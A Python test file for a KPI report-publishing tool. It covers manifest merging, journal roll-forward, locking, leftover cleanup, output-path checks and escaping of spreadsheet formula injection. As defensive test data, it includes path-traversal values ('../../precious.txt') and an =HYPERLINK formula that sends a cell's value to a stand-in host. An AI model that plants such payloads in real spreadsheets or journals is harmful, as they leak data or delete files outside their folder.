"""Publishing rules without notebooks: merge, journal roll-forward, the lock, leftovers,
output paths, and the spreadsheet injection rule (issue 12).  End-to-end runs of the
same rules are in ``test_publishing_runs.py``."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from helpers.errors import InputError
from helpers.exports import safe_cell, safe_frame, save_csv, save_xlsx
from helpers.run.publish import (
    LOCK_FILE,
    apply_journal,
    check_output,
    clean_leftovers,
    merge,
    output_lock,
    publish,
    read_manifest,
)
from helpers.run.runner import TaskResult

LABELS = {"A": ("甲队", "华东"), "B": ("乙队", "华北")}


def _stage(staging: Path, team: str, nb: str, artifacts: dict[str, str], html: str) -> TaskResult:
    (staging / team).mkdir(parents=True, exist_ok=True)
    (staging / team / f"{nb}.html").write_text(html, encoding="utf-8")
    for name, text in artifacts.items():
        (staging / team / name).write_text(text, encoding="utf-8")
    return TaskResult(team, nb, True, 1.0, artifacts=sorted(artifacts))


def _publish(out: Path, run_id: str, results: list[TaskResult], staging: Path) -> dict:
    old = read_manifest(out / "2026Q3")
    manifest, moves, removes = merge(old, results, run_id, {"period": "2026Q3"}, LABELS, "zh")
    publish(out, "2026Q3", staging, run_id, manifest, moves, removes, "<html>index</html>")
    return manifest


def _tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): p.read_text(encoding="utf-8") for p in sorted(folder.rglob("*")) if p.is_file()}


def test_a_partial_run_replaces_exactly_its_reports(tmp_path):
    out = tmp_path / "out"
    st = out / ".staging-2026Q3-p1-00000001"
    first = [_stage(st, "A", "nb", {"a_old.csv": "1"}, "A v1"), _stage(st, "B", "nb", {"b.csv": "2"}, "B v1"),
             _stage(st, "A", "other", {}, "A other v1")]
    _publish(out, "p1-00000001", first, st)
    before = _tree(out / "2026Q3")
    st2 = out / ".staging-2026Q3-p2-00000002"
    m = _publish(out, "p2-00000002", [_stage(st2, "A", "nb", {"a_new.csv": "3"}, "A v2")], st2)
    after = _tree(out / "2026Q3")
    assert after["A/nb.html"] == "A v2" and after["A/a_new.csv"] == "3"
    assert "A/a_old.csv" not in after  # the replaced report's old artifact goes with it
    for kept in ("B/nb.html", "B/b.csv", "A/other.html"):  # everything else stays, byte for byte
        assert after[kept] == before[kept]
    runs = {(e["team"], e["notebook"]): e["run"] for e in m["reports"]}
    assert runs == {("A", "nb"): "p2-00000002", ("B", "nb"): "p1-00000001", ("A", "other"): "p1-00000001"}
    assert set(m["runs"]) == {"p1-00000001", "p2-00000002"}
    assert json.loads(after["manifest.json"]) == m
    assert not st.exists() and not st2.exists() and not list(out.glob(".publish-*"))


def test_a_failure_keeps_the_report_and_a_later_success_clears_it(tmp_path):
    out = tmp_path / "out"
    st = out / ".staging-2026Q3-p1-00000001"
    _publish(out, "p1-00000001", [_stage(st, "A", "nb", {"a.csv": "1"}, "good")], st)
    st2 = out / ".staging-2026Q3-p2-00000002"
    (st2 / "failures").mkdir(parents=True)
    (st2 / "failures" / "A__nb.ipynb").write_text("{}", encoding="utf-8")
    m = _publish(out, "p2-00000002", [TaskResult("A", "nb", False, 1.0, error="ValueError: x")], st2)
    (entry,) = m["reports"]
    assert entry["status"] == "stale" and entry["run"] == "p1-00000001" and entry["failure"]["run"] == "p2-00000002"
    assert (out / "2026Q3" / "A" / "nb.html").read_text(encoding="utf-8") == "good"
    assert (out / "2026Q3" / "A" / "a.csv").exists() and (out / "2026Q3" / "failures" / "A__nb.ipynb").exists()
    st3 = out / ".staging-2026Q3-p3-00000003"
    m = _publish(out, "p3-00000003", [_stage(st3, "A", "nb", {"a.csv": "9"}, "better")], st3)
    assert m["reports"][0]["status"] == "ok" and "failure" not in m["reports"][0]
    assert not (out / "2026Q3" / "failures").exists()  # the old failure copy and its empty folder are gone
    assert set(m["runs"]) == {"p3-00000003"}  # runs no report refers to are dropped


def test_an_interrupted_publish_is_rolled_forward(tmp_path):
    """A run killed after writing its journal and moving half its files: the next run
    (start-up cleanup, under the lock) finishes the publish from the journal."""
    out = tmp_path / "out"
    st = out / ".staging-2026Q3-p999999999-0000000a"  # no such process
    results = [_stage(st, "A", "nb", {"a.csv": "1"}, "A"), _stage(st, "B", "nb", {"b.csv": "2"}, "B")]
    manifest, moves, removes = merge(read_manifest(out / "2026Q3"), results, "p999999999-0000000a",
                                     {"period": "2026Q3"}, LABELS, "zh")
    (st / ".publish").mkdir()
    (st / ".publish" / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    (st / ".publish" / "index.html").write_text("index", encoding="utf-8")
    journal = {"period": "2026Q3", "staging": st.name, "moves": [list(x) for x in moves], "removes": removes}
    (out / ".publish-2026Q3-p999999999-0000000a.json").write_text(json.dumps(journal), encoding="utf-8")
    (out / "2026Q3" / "A").mkdir(parents=True)
    os.replace(st / "A" / "nb.html", out / "2026Q3" / "A" / "nb.html")  # the part done before the kill
    logged: list[str] = []
    done = clean_leftovers(out, logged.append)
    assert sorted(_tree(out / "2026Q3")) == ["A/a.csv", "A/nb.html", "B/b.csv", "B/nb.html", "index.html", "manifest.json"]
    assert done == [".publish-2026Q3-p999999999-0000000a.json", st.name] and "finished publishing" in logged[0]
    assert sorted(p.name for p in out.iterdir()) == ["2026Q3"]


def test_a_journal_never_leaves_the_period_folder(tmp_path):
    """Manifests and journals are data: a path with '..' is refused, nothing is removed."""
    victim = tmp_path / "precious.txt"
    victim.write_text("keep", encoding="utf-8")
    (tmp_path / "out" / ".staging-x").mkdir(parents=True)
    with pytest.raises(ValueError, match="not a report path"):
        apply_journal(tmp_path / "out", {"period": "2026Q3", "staging": ".staging-x", "moves": [],
                                         "removes": ["../../precious.txt"]})
    assert victim.read_text(encoding="utf-8") == "keep"


def test_a_tampered_manifest_cannot_make_a_run_remove_files_outside(tmp_path):
    """An old report whose manifest lists '../../precious.txt' as an artifact: replacing
    that report removes nothing outside the period folder, and the run publishes."""
    out = tmp_path / "out"
    victim = tmp_path / "precious.txt"
    victim.write_text("keep", encoding="utf-8")
    (out / "2026Q3").mkdir(parents=True)
    bad = {"tool": "kpi-workbook", "format": 2, "period": "2026Q3", "runs": {"p1-00000001": {}}, "reports": [
        {"team": "A", "notebook": "nb", "status": "ok", "html": "A/nb.html", "artifacts": ["../../precious.txt"],
         "run": "p1-00000001"}]}
    (out / "2026Q3" / "manifest.json").write_text(json.dumps(bad), encoding="utf-8")
    st = out / ".staging-2026Q3-p2-00000002"
    m = _publish(out, "p2-00000002", [_stage(st, "A", "nb", {"a.csv": "1"}, "new")], st)
    assert victim.read_text(encoding="utf-8") == "keep"
    assert m["reports"][0]["artifacts"] == ["a.csv"] and (out / "2026Q3" / "A" / "nb.html").read_text(encoding="utf-8") == "new"


def test_leftovers_of_live_runs_are_kept(tmp_path):
    live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        mine = tmp_path / f".staging-2026Q3-p{live.pid}-0000abcd"
        dead = tmp_path / ".work-2026Q3-p999999999-0000abcd"
        old_style = tmp_path / ".staging-2026Q3-1a2b3c4d"  # before run ids carried the pid
        for d in (mine, dead, old_style):
            d.mkdir()
        assert sorted(clean_leftovers(tmp_path, lambda _: None)) == sorted([dead.name, old_style.name])
        assert mine.exists() and not dead.exists() and not old_style.exists()
    finally:
        live.kill()
        live.wait()


HOLDER = """
import sys, time
from pathlib import Path
from helpers.run.publish import output_lock
with output_lock(Path(sys.argv[1]), command="kpi-workbook run holder.yaml"):
    print("held", flush=True)
    time.sleep(float(sys.argv[2]))
"""


def test_the_lock_names_its_holder_and_can_be_waited_for(tmp_path):
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(tmp_path), "3"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(InputError) as exc:
            with output_lock(tmp_path):
                pass
        text = str(exc.value)
        assert f"is in use by another kpi-workbook run (pid {holder.pid} on" in text
        assert "kpi-workbook run holder.yaml" in text and "--wait SECONDS" in text
        said: list[str] = []
        t0 = time.monotonic()
        with output_lock(tmp_path, wait=60, log=said.append):
            waited = time.monotonic() - t0
        assert said and said[0].startswith("waiting up to 60 s for the other run") and waited > 0.5
    finally:
        holder.kill()
        holder.wait()


def test_a_lock_left_by_a_killed_run_is_taken_over(tmp_path):
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(tmp_path), "60"], stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "held"
    holder.kill()  # kill -9: the OS releases the file lock; the holder's note stays behind
    holder.wait()
    said: list[str] = []
    with output_lock(tmp_path, log=said.append):
        info = json.loads((tmp_path / ".kpi-workbook.lock.json").read_text(encoding="utf-8"))
        assert info["pid"] == os.getpid()
    assert len(said) == 1 and f"pid {holder.pid}" in said[0] and "taking over" in said[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == [LOCK_FILE]


def _project(tmp_path: Path) -> Path:
    params = tmp_path / "proj" / "params" / "run.yaml"
    params.parent.mkdir(parents=True)
    params.write_text("{}", encoding="utf-8")
    return params


def test_output_paths_must_be_meant(tmp_path):
    params = _project(tmp_path)
    ok = check_output(tmp_path / "proj" / "reports", "2026Q3", params, explicit=False, source="p")
    assert ok == []
    (problem,) = check_output(Path("/etc"), "2026Q3", params, explicit=True, source="--out")
    assert problem.what == "output folder /etc is a system folder"
    (problem,) = check_output(Path("/usr/share/x"), "2026Q3", params, explicit=True, source="--out")
    assert "system folder" in problem.what
    (problem,) = check_output(tmp_path / "elsewhere", "2026Q3", params, explicit=False, source="run.yaml: key 'output.folder'")
    assert "is outside the params file's project folder" in problem.what and "--out" in problem.fix
    assert check_output(tmp_path / "elsewhere", "2026Q3", params, explicit=True, source="--out") == []
    afile = tmp_path / "proj" / "notes.txt"
    afile.write_text("x", encoding="utf-8")
    (problem,) = check_output(afile, "2026Q3", params, explicit=True, source="--out")
    assert problem.what.endswith("notes.txt is a file, not a folder")
    (problem,) = check_output(afile / "sub", "2026Q3", params, explicit=True, source="--out")
    assert "cannot be created" in problem.what


def test_a_period_folder_not_written_by_the_workbook_is_never_touched(tmp_path):
    params = _project(tmp_path)
    out = tmp_path / "proj" / "reports"
    (out / "2026Q3").mkdir(parents=True)
    assert check_output(out, "2026Q3", params, explicit=False, source="p") == []  # empty: fine
    (out / "2026Q3" / "budget.xlsx").write_text("someone's file", encoding="utf-8")
    (problem,) = check_output(out, "2026Q3", params, explicit=False, source="p")
    assert "is not a report folder of kpi-workbook" in problem.what and "never overwritten" in problem.fix
    (out / "2026Q3" / "manifest.json").write_text(json.dumps({"tool": "kpi-workbook", "format": 2}), encoding="utf-8")
    assert check_output(out, "2026Q3", params, explicit=False, source="p") == []


# ----------------------------------------------------------------------------- injection


@pytest.mark.parametrize("text, written", [
    ('=HYPERLINK("http://x.example/?"&A1,"click me")', '\'=HYPERLINK("http://x.example/?"&A1,"click me")'),
    ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("王伟", "王伟"), ("a=b", "a=b"), ("bell\x07end", "bell\ufffdend"), ("'=already", "'=already"),
])
def test_a_text_cell_never_starts_a_formula(text, written):
    assert safe_cell(text) == written


def test_exports_keep_numbers_and_neutralise_text(tmp_path):
    df = pd.DataFrame({"name": ["=1+1", "李娜", None], "payout": [-1200.5, 300.0, float("nan")], "=col": [1, 2, 3]})
    save_csv(df, tmp_path / "x.csv")
    back = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["name", "payout", "'=col"]
    assert back["name"].tolist() == ["'=1+1", "李娜", ""] and back["payout"].tolist() == ["-1200.5", "300", ""]
    save_xlsx(tmp_path / "x.xlsx", {"s": df})
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx")["s"]
    assert [(c.value, c.data_type) for c in ws["A"]][:3] == [("name", "s"), ("'=1+1", "s"), ("李娜", "s")]
    assert ws["B2"].value == -1200.5 and ws["B2"].data_type == "n"  # a negative amount stays a number
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert safe_frame(df)["payout"].tolist()[:2] == [-1200.5, 300.0]
